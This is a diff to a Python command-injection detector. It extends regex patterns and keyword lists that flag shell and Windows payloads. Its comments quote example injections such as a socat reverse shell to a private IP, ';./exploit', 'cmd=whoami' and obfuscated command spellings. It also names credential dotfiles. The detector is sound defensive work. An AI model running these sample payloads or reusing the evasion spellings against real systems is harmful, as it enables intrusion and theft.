@@ -56,7 +56,9 @@ DISTINCT_COMMANDS = frozenset(
     cscli zstdcat zstd zcat bzcat xzcat lzcat zgrep zless visudo pipx ssh-copy-id ssh-keygen htop aptitude
     apt-get yum dnf rpm dpkg gcc g++ clang c89 c99 rmt rmt-dump lastlogin sqlite3 mysql psql
     mysqldump pg_dump redis-cli mongo mongosh kubectl docker podman crictl nsenter chroot unshare
-    setcap getcap regedit pip2 pip3 bsdtar lwp-download lwp-request lwp-mirror""".split()
+    setcap getcap regedit pip2 pip3 bsdtar lwp-download lwp-request lwp-mirror
+    netsh nltest dsquery dsget fsutil auditpol cmdkey gpresult driverquery getmac wevtutil esentutl
+    ntdsutil diskpart mountvol qprocess msbuild makecab lsb_release ping6 lspci waitfor unbuffer stdbuf setsid""".split()
 )
 # Command words that are also ordinary words: need shell-looking arguments or end of value.
 COMMON_WORDS = frozenset(
@@ -70,7 +72,7 @@ COMMON_WORDS = frozenset(
 _COMMAND_WORDS = DISTINCT_COMMANDS | COMMON_WORDS
 # Every branch starts with a literal (``\bthen\b`` spelled ``t(?<=\bt)hen\b``): the regex engine then
 # skips to the next candidate character instead of trying each branch at every position.
-_SEPARATOR = re.compile(r";|\|\|?|&&?|\n|\r|`|\$\(|\(|\{|<\(|>\(|t(?<=\bt)hen\b|d(?<=\bd)o\b|%0a")
+_SEPARATOR = re.compile(r";|\|\|?|&&?|\n|\r|`|\$\(|\(|\{|<\(|>\(|t(?<=\bt)hen\b|d(?<=\bd)o\b|%0a|\\n")
 _WORD = re.compile(r"[\s]{0,16}((?:[a-z0-9_./\\\-'\"$@*?!{}\[\],`()^]|\$\{[a-z0-9_#@!:]{0,16}\}){1,60})")
 _STRONG = linear(
     r"\$\{?ifs\b|\$\{?ifs\}|/dev/(?:tcp|udp)/|\bbash[\s]{1,8}-[ic]\b|\bsh[\s]{1,8}-[ic]\b|\bnc(?:at)?[\s]{1,8}(?:-[a-z]{1,4}[\s]{1,8}){0,4}-e\b"
@@ -91,7 +93,15 @@ _STRONG = linear(
     # system32 programs, which crash reports and process lists name, are not interpreters)
     r"|(?:system32|syswow64|sysnative)[\\/](?:windowspowershell[\\/]v1\.0[\\/])?(?:cmd|powershell|pwsh|wscript|cscript|mshta)\.exe(?:$|[^.a-z0-9_])"
     # a Windows program by its absolute path after a separator: "& C:\\Windows\\System32\\calc.exe"
-    r"|(?:[;&|\n]|%0a)[\s]{0,4}['\"]?[a-z]:[\\/][^\s;&|<>]{0,120}\.(?:exe|bat|cmd|ps1|vbs|hta|scr)\b"
+    r"|(?:[;&|\n]|%0a)[\s]{0,4}['\"]?(?:[a-z]:|%[a-z_()]{2,20}%)[\\/][^\s;&|<>]{0,120}\.(?:exe|bat|cmd|ps1|vbs|hta|scr)\b"
+    # the same quoted with spaces inside ('& "C:\\Program Files\\x\\x.exe"') or on a share ("& \\\\host\\s\\x.exe")
+    r"|(?:[;&|\n]|%0a)[\s]{0,4}\"[a-z]:[\\/][^\"\n;&|<>]{0,120}\.(?:exe|bat|cmd|ps1|vbs|hta|scr)\""
+    r"|(?:[;&|\n]|%0a)[\s]{0,4}['\"]?\\\\[a-z0-9.\-]{1,63}\\[^\s;&|<>]{0,120}\.(?:exe|bat|cmd|ps1|vbs|hta|scr|dll)\b"
+    # cmd.exe's substring expansion ("%ProgramData:~0,1%"), spelling a command out of a variable's letters,
+    # and a Windows variable echoed where a command begins ("echo %PATH%")
+    r"|%[a-z_()]{1,30}:~-?[0-9]{1,3}(?:,-?[0-9]{1,3})?%"
+    r"|(?:^|[;&|\n])[\s]{0,4}echo[\s]{1,4}%(?:path|username|userprofile|computername|userdomain|temp|tmp|windir"
+    r"|systemroot|cd|os|appdata|localappdata|homepath|homedrive|programfiles|comspec|logonserver|processor_architecture)%"
     r"|%comspec%|\bfor[\s]{1,8}/[fdlr][\s]{1,8}(?:(?:\"[^\"]{0,80}\"|[^%\s]{1,60})[\s]{1,8}){0,2}%%?[a-z0-9]|\bfor[\s]{1,8}%%?[a-z0-9\-~_]{1,32}[\s]{1,8}in[\s]{0,8}\("
     # cmd.exe comparisons: batch operators, or "==" between batch-shaped operands (a script's
     # "if (x == 1)" / "if x == 1 then" is not one)
@@ -113,6 +123,11 @@ _STRONG = linear(
     r"|\binvoke-(?:expression|webrequest|command|item)\b|\biex[\s]{0,4}\(|downloadstring\(|-encodedcommand\b"
     r"|\bwget[\s]{1,8}(?:-[a-z]{1,3}[\s]{1,8}){0,3}(?:https?|ftp)://|\bcurl[\s]{1,8}(?:-[a-z]{1,3}[\s]{1,8}){0,3}(?:https?|ftp)://"
     r"|\bpython[0-9.]{0,4}[\s]{1,8}-c[\s]{1,8}|\bperl[\s]{1,8}-e[\s]{1,8}|\bruby[\s]{1,8}-e[\s]{1,8}|\bphp[\s]{1,8}-r[\s]{1,8}"
+    # socat's address grammar ("socat TCP:10.0.0.1:4444 EXEC:bash", "socat - OPENSSL:h:443")
+    r"|\bsocat[\s]{1,8}(?:-[a-z0-9,]{0,12}[\s]{1,8}){0,3}(?:tcp|udp|openssl|exec|system|file|open|pty|stdio|unix-connect|tcp-listen|tcp-connect|udp-listen)[46]?:"
+    # a script sourced with "." after a separator ("; . /tmp/x.sh"), find running a program per file
+    r"|(?:[;&|`\n]|%0a)[\s]{0,4}\.[\s]{1,4}(?:/|\./|~/)[^\s;|&]{1,80}"
+    r"|\bfind[\s][^\n;|&]{1,120}[\s]-(?:exec|execdir|ok|okdir)[\s]{1,4}[^\s]"
     r"|\bchmod[\s]{1,8}(?:[+][xs]|[0-7]{3,4})\b|\brm[\s]{1,8}-[rf]{1,3}\b|>[\s]{0,4}/(?:tmp|dev|var|etc)/"
     # bash arithmetic as code: "$[2+2]", "$((7*7))", "$(($() 42))"
     r"|\$\[[\s]{0,4}[0-9]{1,12}[\s]{0,4}[+*/%][\s]{0,4}[0-9]{1,12}[\s]{0,4}\]"
@@ -125,8 +140,8 @@ _STRONG = linear(
     r"|\$\{(?:path|home|pwd|oldpwd|shell|user|hostname|ls_colors|ps[1-4]|bash|shlvl|random|seconds)(?:##?|%%?|//?|:[0-9])"
     r"|\$\{[a-z_][a-z0-9_]{0,30}(?:,,|\^\^)\}"
     # windows: "net user", "net localgroup administrators" after a separator
-    r"|(?:[;&|\n]|%0a)[\s]{0,4}net1?[\s]{1,8}(?:(?:user|users|localgroup|group|view|share|session|accounts)"
-    r"(?:$|[\s]{0,8}(?:[;&|]|$)|[\s]{1,8}(?:/|\\\\|[a-z0-9_$.\-]{1,30}(?:$|[\s;&|]|[\s]{1,8}[^\s]{0,30}[\s]{0,4}/)))|use[\s]{1,8}(?:[a-z]:|\\\\|\*))"
+    r"|(?:[;&|\n]|%0a)[\s]{0,4}net1?[\s]{1,8}(?:(?:user|users|localgroup|group|view|share|session|accounts|config)"
+    r"(?:$|[\s]{0,8}(?:[;&|]|$)|[\s]{1,8}(?:/|\\\\|\"[^\"\n]{1,60}\"[\s]{0,8}(?:/|$)|[a-z0-9_$.\-]{1,30}(?:$|[\s;&|]|[\s]{1,8}[^\s]{0,30}[\s]{0,4}/)))|use[\s]{1,8}(?:[a-z]:|\\\\|\*))"
     # PowerShell cmdlets (Verb-Noun) that read the host, after a separator: "| Get-Process", "; Get-ChildItem c:\\"
     r"|(?:[;&|\n]|%0a)[\s]{0,4}(?:get|set|new|remove|start|stop|invoke|add|test)-(?:process|childitem|content|itemproperty"
     r"|service|wmiobject|ciminstance|localuser|localgroup(?:member)?|acl|executionpolicy|psdrive|hotfix|netipaddress"
@@ -185,6 +200,10 @@ _CODE = linear(
     r"|require[\s]{0,4}\([\s]{0,4}['\"`](?:child_process|fs|net|os|vm)|global\.process|\bprocess\[|\.constructor\.constructor"
     r"|__import__[\s]{0,4}\(|\.__(?:subclasses|globals|builtins|bases|mro)__\b|\bos\.(?:system|popen|exec[a-z]{0,3})[\s]{0,4}\(|subprocess\.|runtime\.getruntime|\bgetruntime\(\)"
     r"|<!--#[\s]{0,4}(?:exec|include|echo|printenv|config|fsize|flastmod|set)[\s]{1,8}[a-z]{2,8}[\s]{0,4}="  # server-side includes
+    r"|<!--#[\s]{0,4}printenv[\s]{0,4}-->"
+    # Perl's and Ruby's backtick operators spelled out ("qx{id}", "%x(whoami)"), .NET starting a process
+    r"|(?:\bqx|%x)[\s]{0,2}[{(\[/|!][\s]{0,4}(?:/[a-z]|(?:id|whoami|uname|cat|ls|dir|ping|curl|wget|nc|ncat|bash|sh|sleep|echo|pwd|env|ps|cmd|powershell|nslookup|ifconfig|ipconfig|hostname)\b)"
+    r"|\bprocess\.start[\s]{0,4}\([\s]{0,4}['\"]"
     r"|@\{[\s]{0,8}\[|_\$\$nd_func\$\$_|\[[/\\]?php\]|\{/?php\}"
     r"|\$[a-z_][a-z0-9_]{0,20}(?:\[[^\]\s]{0,20}\]){0,3}[\s]{0,4}\([^)]{0,40}\)[\s]{0,4}(?:;|$)|\$\{[^}\s]{1,30}\}[\s]{0,4}\("
     r"|\bo:[0-9]{1,4}:\"[a-z_\\][a-z0-9_\\]{0,64}\":[0-9]{1,4}:\{"
@@ -206,22 +225,23 @@ _GLUED_SEPARATOR = re.compile(r"(?:;|\|\|?|&&)[\s]{0,4}(?![a-z0-9_\-]{1,30}=)\S"
 # so the search skips the letters of long text: the same matches, found about twice as fast
 # (the punctuation is one leading class, so the regex engine skips to it: no branch is tried elsewhere)
 _OBFUSCATION = re.compile(
-    r"['\"\\$^](?:(?<=[a-z]['\"\\])[a-z]|(?<=[a-z]['\"])['\"]|(?<=[a-z]\$)[*!?\-_$][a-z/]"
+    r"['\"\\$^](?:(?<=[a-z]['\"\\])[a-z]|(?<=[a-z]['\"])['\"]|(?<=[a-z]\$)[*!?\-_$0-9][a-z/]"
     r"|(?<=\$)@|(?<=\$)\{[a-z0-9_]{0,16}\}[a-z]|(?<=\$)\([\s]{0,2}\)[a-z]|(?<=\^)[a-z])"
 )
 # cmd.exe's escape character inside a word ("c^a^l^c", "who^ami"): dropped before the command runs
 _CARET = re.compile(r"(?<=[a-z0-9])\^(?=[a-z0-9.])")
 # a value that is one command and a separator the application's own text follows: "whoami|", "id;"
-_TRAILING_SEPARATOR = re.compile(r"[\s]{0,4}(?:;|\|\|?|&&?)[\s]{0,4}")
+_TRAILING_SEPARATOR = re.compile(r"[\s]{0,4}(?:;|\|\|?|&&?|%0a|\\n)[\s]{0,4}")
 _WORD_START = re.compile(r"[a-z/.\\$'\"{~]")
 _STRONG_OR_CODE = linear("(" + _STRONG.pattern + ")|(?:" + _CODE.pattern + ")")
 _PROSE_FOLLOW = re.compile(r"[\s]{1,4}[a-z]{2,20}[\s]{1,4}[a-z]{2,20}[\s]{1,4}[a-z]{2,20}")
 _TRIGGER = linear(r"[;|&`$\n\r(){}<>?*\[]|module\.exports|system32|syswow64|sysnative|/bin|/usr|/dev|/tmp|%comspec|\bfor\b|\bif\b|\bcmd\b|powershell|invoke-|iex|wget|curl|python|perl|ruby|php|chmod|\brm\b|child_process|process|__import__|\bos\.|subprocess|runtime|\bo:|\ba:")
 _ARG_LIKE = re.compile(
-    r"[\s]{1,8}(?:[a-z]{2,8}://|-{1,2}[a-z0-9]|/|%[a-z_][a-z0-9_]{1,30}%|\.{1,2}/|~|\$|[a-z]:\\|>|<|\||;|&|'|\"|\*|[0-9]{1,6}(?:$|[\s;|&])"
+    r"[\s]{1,8}(?:[a-z]{2,8}://|-{1,2}[a-z0-9]|/|%[a-z_][a-z0-9_]{1,30}%|\.{1,2}/|~|\$|[a-z]:\\|\\\\[a-z0-9]|>|<|\||;|&|'|\"|\*|[0-9]{1,6}(?:$|[\s;|&#'\"])"
     r"|[0-9]>(?:&[0-9]|/)"  # a descriptor redirection: "id 2>&1", "ls 2>/dev/null"
     r"|[a-z0-9\-]{1,63}\.[a-z0-9\-]{1,63}(?:\.[a-z0-9\-]{1,63}){0,4}(?:$|[\s;|&:/])"  # a host or file name
-    r"|[a-z0-9_.\-]{1,32}@[a-z0-9\-]{1,63}(?:\.[a-z0-9\-]{1,63}){0,4}(?:$|[\s;|&:]))"  # user@host
+    r"|[a-z0-9_.\-]{1,32}@[a-z0-9\-]{1,63}(?:\.[a-z0-9\-]{1,63}){0,4}(?:$|[\s;|&:])"  # user@host
+    r"|\.(?:env|htaccess|htpasswd|bash_history|bashrc|profile|ssh/|git/|aws/|npmrc|netrc|pgpass|docker/)(?:$|[\s;|&]))"  # a dotfile
 )
 
 
@@ -242,6 +262,9 @@ def _unobfuscate(word: str) -> str:
             continue
         if ch == "$" and i + 1 < n and word[i + 1] in "@*!?-_$" and (i + 2 >= n or not word[i + 2].isdigit()):
             i += 2
+            continue
+        if ch == "$" and i + 2 < n and word[i + 1].isdigit() and i > 0 and word[i - 1].isalpha() and word[i + 2].isalpha():
+            i += 2  # "wh$9oami": a positional parameter inside a word expands to nothing
             continue
         if ch == "$" and i + 1 < n and word[i + 1] in "'\"":
             i += 1  # $'...' / $"...": ANSI-C and locale quoting
@@ -271,6 +294,8 @@ def _command_name(word: str) -> str:
     if "/" in word or "\\" in word:
         word = word.replace("\\", "/").rstrip("/").rsplit("/", 1)[-1]
     word = word.strip(",.{}[]()")
+    if word.endswith(".exe") and word[:-4] in DISTINCT_COMMANDS:
+        word = word[:-4]  # "certutil.exe -decode": the program by its file name
     versioned = _VERSIONED.fullmatch(word) if word[-1:].isdigit() else None
     return versioned.group(1) if versioned is not None else word
 
@@ -284,9 +309,11 @@ def scan(text: str) -> list[Hit]:
     if stripped.startswith("()"):
         m = _SHELLSHOCK.match(stripped)
         body = stripped[m.end() :].rstrip() if m is not None else ""
-        if m is not None and (not (body.endswith("}") and "}" not in body[:-1])
-                              or body[:-1].strip().rstrip(";").strip() == ":"
-                              or _SHELL_LOOP.search(body) is not None):
+        empty = body.startswith("}") and not body[1:].lstrip().startswith((";", "&", "|", "\n", "%0a"))
+        if m is not None and not empty and (not (body.endswith("}") and "}" not in body[:-1])
+                                            or body[:-1].strip().rstrip(";").strip() == ":"
+                                            or _SHELL_LOOP.search(body) is not None):
+            # ("() {} empty function": an empty body, which bash rejects, followed by prose is no definition)
             # (a value that is one function definition and nothing after it, "() { return x; }",
             # "() {}", runs nothing when bash imports it: the bug runs what follows the body; it
             # is a JavaScript function; but "() { :; }", the shell's no-op, is the bug's own probe,
@@ -363,7 +390,12 @@ def scan(text: str) -> list[Hit]:
         if found is None:
             assignment = _ASSIGNMENT.match(stripped)
             if assignment is not None:  # "code=ansible all -m ping": a raw form field in front
-                found = _command_line(text, stripped[assignment.end() :].lstrip())
+                value = stripped[assignment.end() :].strip()
+                found = _command_line(text, value)
+                if (found is None and assignment.group(0)[:-1] in _COMMAND_PARAMETERS and value in DISTINCT_COMMANDS
+                        and value not in _NAMED_IN_PROSE and value not in _ENGLISH_COMMANDS and value not in COMMON_WORDS):
+                    # "cmd=whoami": a program named to a web shell's command parameter
+                    found = (0.85, "cmdi.command-parameter", len(text) - len(stripped), len(text))
         if found is not None:
             keep(*found)
     if best is not None:
@@ -417,11 +449,13 @@ def _may_name_command(text: str) -> bool:
     expansions could be hiding one (``w'h'o'am'i``, ``c\\at``, ``wh$@oami``)."""
     if _OBFUSCATION.search(text) is not None:
         return True
-    if "bin/" in text:
-        return True  # ";/bin/c?t", "|/usr/sbin/x": a binary by its path, whatever spells its name
+    if "bin/" in text or "./" in text:
+        return True  # ";./exploit", ";/bin/c?t", "|/usr/sbin/x": a binary by its path, whatever spells its name
     words = _WORDS.findall(text)
     if not _COMMAND_WORDS.isdisjoint(words):
         return True
+    if ".exe" in text and not _COMMAND_WORDS.isdisjoint(w[:-4] for w in words if w.endswith(".exe")):
+        return True  # "certutil.exe -decode"
     # "gcc10.1", "python3.10": a word that starts with a versioned name (none without the name
     # and a digit somewhere in the text)
     if VERSION_HINT.search(text) is None:
@@ -526,16 +560,20 @@ _TOOL_PREFIXES = frozenset({"nohup", "strace", "ltrace", "sudo", "doas", "busybo
 # (not cd, dd, du, df: "CD /DVD/Blu-ray player" is a product)
 _PATH_COMMANDS = frozenset({"cat", "ls", "ll", "rm", "cp", "mv", "tail", "less", "tee", "touch", "ln", "chown",
                             "chmod", "grep", "stat", "tar", "unzip"})
-_PING_ARGUMENT = re.compile(r"(?:-[a-z]{1,2}[\s]{1,4}[0-9]{1,5}[\s]{1,4}){1,3}(?:[0-9]{1,3}(?:\.[0-9]{1,3}){3}|localhost|[a-z0-9\-]{1,63}\.[a-z]{2,})")
-_PATH_ARGUMENT = re.compile(r"(?:-{1,2}[a-z]{1,12}[\s]{1,4}){0,3}(?:(?:/[a-z0-9_.\-]{1,40}){2}|~/|\.\./)")
+_PING_ARGUMENT = re.compile(r"(?:-[a-z]{1,2}[\s]{0,4}[0-9]{1,5}[\s]{1,4}){1,3}(?:[0-9]{1,3}(?:\.[0-9]{1,3}){3}|localhost|[a-z0-9\-]{1,63}\.[a-z]{2,})")
+# an IPv4 address as the first argument ("ping 127.0.0.1 -n 3"): a host, not a version
+_IPV4_ARG = re.compile(r"[\s]{1,8}[0-9]{1,3}(?:\.[0-9]{1,3}){3}(?:$|[\s:/;|&])")
+_SLEEP_ARGUMENT = re.compile(r"[0-9]{1,4}(?:\.[0-9]{1,3})?[smhd]?[\s]{0,4}(?:[;&|#][^\n]{0,40})?")
+_WINDOWS_PATH_ARGUMENT = re.compile(r"(?:/[a-z][\s]{1,4}){0,3}['\"]?(?:[a-z]:\\|%[a-z_]{2,20}%\\|\\\\[a-z0-9])")
+_PATH_ARGUMENT = re.compile(r"(?:-{1,2}[a-z]{1,12}[\s]{1,4}){0,3}(?:(?:/[a-z0-9_.\\\-]{1,40}){2}|~/|\.\./)")
 
 _BIN_DIRS = ("/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/", "/usr/local/bin/", "/usr/local/sbin/")
 
 
 def _starts_with_command(text: str) -> bool:
     head, _, rest = text[:48].partition(" ")
-    if ";" in head or "|" in head or "&" in head:
-        cut = min(head.find(c) for c in ";|&" if c in head)
+    if ";" in head or "|" in head or "&" in head or "%0a" in head or "\\n" in head:
+        cut = min(head.find(c) for c in (";", "|", "&", "%0a", "\\n") if c in head)
     else:
         cut = -1
     if cut > 0:
@@ -558,9 +596,27 @@ def _starts_with_command(text: str) -> bool:
         return True  # "cat /path/file.gz", "ls -la /var/www/"
     if name == "ping" and head == name and _PING_ARGUMENT.match(rest) is not None:
         return True  # "ping -c 3 127.0.0.1", "ping -n 10 localhost"
+    if name == "sleep" and head == name and _SLEEP_ARGUMENT.fullmatch(rest) is not None:
+        return True  # "sleep 10": a time-based probe that is the whole value (prose says "sleep 10 hours")
+    if name in ("dir", "type", "del", "icacls") and head == name and _WINDOWS_PATH_ARGUMENT.match(rest) is not None:
+        return True  # "dir c:\\windows", "type C:\\boot.ini"
     if name in COMMON_WORDS and name != head and (head.count("'") >= 2 or head.count('"') >= 2):
         return True  # "ti''me who": quotes inside an ordinary command word
     return name in DISTINCT_COMMANDS and head not in COMMON_WORDS
+
+
+# binaries (no common words) that are English words or names too: "touch base", "reboot camp"
+_ENGLISH_COMMANDS = frozenset({"erase", "touch", "shred", "shutdown", "reboot", "poweroff", "pry", "dash", "unset",
+                               "sh", "hostname", "passwd", "mkdir", "uptime", "cmd", "runas", "doas", "chef-client"})
+
+
+# command interpreters: what "| bash" or "& start cmd" hands the rest of the input to
+_SHELLS = frozenset({"sh", "bash", "zsh", "ksh", "dash", "csh", "tcsh", "ash", "busybox", "cmd", "powershell", "pwsh",
+                     "python", "python3", "perl", "ruby", "php", "node"})
+
+
+# the parameter names web shells and debug endpoints take a command in
+_COMMAND_PARAMETERS = frozenset({"cmd", "exec", "command", "execute", "run", "shell", "system", "cmdline", "c"})
 
 
 # Short command words that are no English word: after a bare "&" they run on their own
@@ -579,7 +635,19 @@ _OWN_OPTIONS = {
     "wmic": re.compile(r"[\s]{1,4}(?:process|os|useraccount|group|service|qfe|product|startup|share|nicconfig|"
                        r"logicaldisk|computersystem|shadowcopy|/node:)"),
     "rundll32": re.compile(r"[\s]{1,4}(?:javascript:|[a-z0-9_.\\/:\-\"]{1,80},)"),
+    # "tar czf x.tgz /etc", "ip addr", "dig @8.8.8.8 x", "sc query", "attrib +h x", "service sshd stop"
+    "tar": re.compile(r"[\s]{1,4}-?[cxtruzjvfpa]{2,6}[\s]{1,4}\S"),
+    "ip": re.compile(r"[\s]{1,4}(?:a|addr|address|r|route|link|neigh|n|rule|-[46]|-br)(?:$|[\s;|&])"),
+    "dig": re.compile(r"[\s]{1,4}(?:@[a-z0-9.:\-]{1,60}|[a-z0-9\-$`(){}]{1,63}\.[a-z0-9.\-]{2,80}(?:$|[\s;|&#])|-[xt4-6]\b|\+[a-z]{2,12}\b)"),
+    "sc": re.compile(r"[\s]{1,4}(?:query|queryex|qc|create|config|delete|sdshow|\\\\)(?:$|[\s;|&])"),
+    "route": re.compile(r"[\s]{1,4}(?:print|-n|-4|-6|add|delete)(?:$|[\s;|&])"),
+    "attrib": re.compile(r"[\s]{1,4}[+\-][rahsi](?:$|[\s])"),
+    "service": re.compile(r"[\s]{1,4}(?:[a-z0-9_.@\-]{1,40}[\s]{1,4}(?:start|stop|restart|status|reload)|--status-all)(?:$|[\s;|&])"),
 }
+
+
+# what a file form holds before its command is appended: one file name ("report.pdf & dir")
+_FILE_LEAD = re.compile(r"[\s]{0,4}[a-z0-9_\-]{1,40}\.(?:txt|pdf|jpg|jpeg|png|gif|doc|docx|xls|xlsx|csv|zip|log|xml|json|html|php|sh|exe)[\s]{0,4}")
 
 
 def _bare_amp(text: str, pos: int) -> bool:
@@ -587,7 +655,7 @@ def _bare_amp(text: str, pos: int) -> bool:
     (``127.0.0.1 & dir``) or is glued to a word before it (``a&id``, not ``Name & ID``), outside
     a query string (``?page=2&id`` names a parameter)."""
     lead = text[: pos - 1]
-    if not lead.strip() or _ADDRESS_LEAD.fullmatch(lead) is not None:
+    if not lead.strip() or _ADDRESS_LEAD.fullmatch(lead) is not None or _FILE_LEAD.fullmatch(lead) is not None:
         return True
     return lead[-1] not in " \t" and text[pos : pos + 1] != " " and "=" not in lead and "?" not in lead
 
@@ -649,11 +717,18 @@ def _command_at(
         if cut > 0:
             raw = raw[:cut]
             masked = masked[:cut]
+    escaped_newline = raw.find("\\n")
+    if escaped_newline > 0 and _command_name(raw[:escaped_newline]) in _COMMAND_WORDS:
+        raw = raw[:escaped_newline]  # ";id\\n": a newline written as an escape ends the command
     if not _WORD_START.match(raw) or ("/" in raw and not raw.lstrip("'\"").startswith(("/", "./", "~/", "../"))):
         return None
     if raw[:1] == "." and not raw.startswith(("./", "../")):
         return None  # ".net 4.8", ".env": a dotted name, not a command
     name = _command_name(raw)
+    if (separator in (";", "|", "||", "&&", "`", "$(", "\n", "%0a") and raw.startswith("./") and len(raw) > 3
+            and raw[2:3].isalpha() and m.start(1) - pos <= 2):
+        # ";./exploit", "|./x.sh": a program of the working directory, run right after a separator
+        return (0.85, "cmdi.relative-program", pos, m.start(1) + len(raw))
     if name in _LOOKUP_COMMANDS and separator in ("`", "$("):
         return (0.95 if ("`" if separator == "`" else ")") in text[pos : pos + 120] else 0.8, "cmdi.substitution", pos,
                 m.start(1) + len(raw))  # "$(which id)": a path looked up to be run
@@ -685,17 +760,30 @@ def _command_at(
         return (0.8, "cmdi.substitution", pos, end)
     args = (_ARG_LIKE.match(rest) is not None or (rest[:1] in ("<", ">") and _GLUED_REDIRECT.match(rest) is not None)
             or (name in _OWN_OPTIONS and _OWN_OPTIONS[name].match(rest) is not None))
-    if args and name in _NAMED_IN_PROSE and _VERSION_ARG.match(rest) is not None:
+    if args and name in _NAMED_IN_PROSE and _VERSION_ARG.match(rest) is not None and _IPV4_ARG.match(rest) is None:
         args = False  # "python 3 tutorial", "java 8", "gcc 12.2": a tool and its version, named in prose
     if not args and name in _TOOL_PREFIXES:
         after = _WORDS.match(rest.lstrip())  # "busybox id", "nohup whoami": a tool that runs the next word
         args = after is not None and after.group(0) in _COMMAND_WORDS
+    elif not args and name in ("call", "start") and separator in ("&", "|", "||", "&&", "\n"):
+        after = _WORDS.match(rest.lstrip())  # "& call whoami", "& start cmd": cmd.exe running a program
+        word = after.group(0) if after is not None else ""
+        args = word in _SHELLS or (word in DISTINCT_COMMANDS and word not in _NAMED_IN_PROSE
+                                   and word not in _ENGLISH_COMMANDS and word not in COMMON_WORDS)
+    elif not args and name in _PREFIXES and separator in (";", "|", "||", "&&", "&", "\n", "`", "$("):
+        after = _WORDS.match(rest.lstrip())  # "; time whoami", "| watch netstat": a prefix running a program
+        args = (after is not None and after.group(0) in DISTINCT_COMMANDS and after.group(0) not in _NAMED_IN_PROSE
+                and after.group(0) not in _ENGLISH_COMMANDS and after.group(0) not in COMMON_WORDS)
+    elif not args and name in ("powershell", "pwsh"):
+        after = _WORDS.match(rest.lstrip())  # "powershell whoami": the shell given a program to run
+        args = after is not None and after.group(0) in DISTINCT_COMMANDS and after.group(0) not in _NAMED_IN_PROSE
     elif not args and name in ("eval", "exec") and separator and not substitution:
         # ";eval id", "|exec whoami": the builtins that run their argument as a command; the next word
         # must be a binary no prose uses ("eval test results" passes)
         after = _WORDS.match(rest.lstrip())
         args = after is not None and after.group(0) in DISTINCT_COMMANDS and after.group(0) not in ("eval", "exec")
-    ends = not rest.strip() or rest.lstrip()[:1] in (";", "|", "&", "#", "`", ")", "'", '"')
+    ends = (not rest.strip() or rest.lstrip()[:1] in (";", "|", "&", "#", "`", ")", "'", '"')
+            or rest.startswith(("\\n", "%0a", "%0d")))  # ";id\\n", "id%0a": a newline, escaped or encoded
     prose = _PROSE_FOLLOW.match(rest) is not None and not args
     if obfuscated and (at_start or separator):
         return (0.9, "cmdi.obfuscated-command", pos, end)  # quotes or empty expansions inside a command name
@@ -726,6 +814,15 @@ def _command_at(
             return None
         if separator == "|" and not args and text.count("|") >= 3:
             return None  # "event|type|init|...": a pipe-delimited record, not a pipeline
+        if (not args and not rest.strip() and name not in _BARE_AMP_COMMANDS and separator in (";", "|", "&&", "||")
+                and text[pos : pos + 1] == " "
+                and (separator == ";" or text[pos - len(separator) - 1 : pos - len(separator)] == " ")):
+            head = lead.rsplit(None, 1)[-1] if lead else ""
+            if (head.isalpha() and (head in COMMON_WORDS or (separator == ";" and " " in lead.strip()))
+                    and head not in _BARE_AMP_COMMANDS):
+                # "more | less", "date && time", '"quoted" text; more': two ordinary words joined, or
+                # a clause and a last word (a probe names its target: "127.0.0.1 ; who", "x | id")
+                return None
         if separator in ("&&", "||") and not prose:
             return (0.9, "cmdi.separator-command", pos, end)  # "127.0.0.1 && net user"
         spaced = pos >= 2 and text[pos - 2 : pos - 1] == " " and rest[:1] == " "
@@ -759,14 +856,33 @@ def _command_at(
             args = True  # "ansible all -m ping", "whoami;x", "whoami|" (the application appends the rest)
         return (0.85, "cmdi.command", pos, end) if args else None  # a lone word is not a command line
     if not (args or ends or obfuscated):
+        if (separator in (";", "|", "||", "&&", "&") and name not in _NAMED_IN_PROSE and name not in _ENGLISH_COMMANDS
+                and not prose and _WORDS.match(rest.lstrip()) is not None
+                and not (separator == "&" and not _bare_amp(text, pos) and text[: pos - 1].strip())):
+            # "& vssadmin list shadows", ";systemctl status sshd": a program no prose names, then its verb
+            return (0.85, "cmdi.separator-command", pos, end)
         return None if separator in ("(", "{", "\n", "\r") else (0.45, "cmdi.separator-command", pos, end)
     if separator == "(" and not args and name in _NAMED_IN_PROSE and rest.lstrip()[:1] == ")":
         return None  # "Software Engineer (Python)", "coffee (java)": a language or tool named in parentheses
     if separator == "{" and not args and name in _NAMED_IN_PROSE and (raw.endswith("}") or rest.lstrip()[:1] == "}"):
         return None  # "{python}", "${java}": a placeholder; a bash group needs "{ cmd; }"
+    if (not args and name in _SHELLS and separator in (";", "|", "||", "&&", "&") and not rest.strip()
+            and not text[: pos - len(separator)].strip()):
+        return (0.9, "cmdi.separator-command", pos, end)  # "|bash", "; sh": a value that pipes into a shell
     if not args and name in _NAMED_IN_PROSE:
         return (0.45, "cmdi.separator-command", pos, end)  # "Python|Java", "python;java;ruby": a list of tags
+    if name in _NAMED_IN_PROSE and separator in ("|", ";") and rest.lstrip()[:1] == separator and _tag_list(text, separator):
+        return (0.45, "cmdi.separator-command", pos, end)  # "Python | Java | Go": the next tag is no argument
     return (0.95, "cmdi.separator-command", pos, end)
+
+
+_TAG = re.compile(r"[a-z0-9+#.\- ]{1,30}")
+
+
+def _tag_list(text: str, separator: str) -> bool:
+    """``text`` is a short list of plain words split by ``separator`` ("Python | Java | Go")."""
+    parts = text.split(separator)
+    return 2 <= len(parts) <= 16 and all(_TAG.fullmatch(part) is not None and part.strip() for part in parts)
 
 
 def features(text: str) -> dict[str, float]:
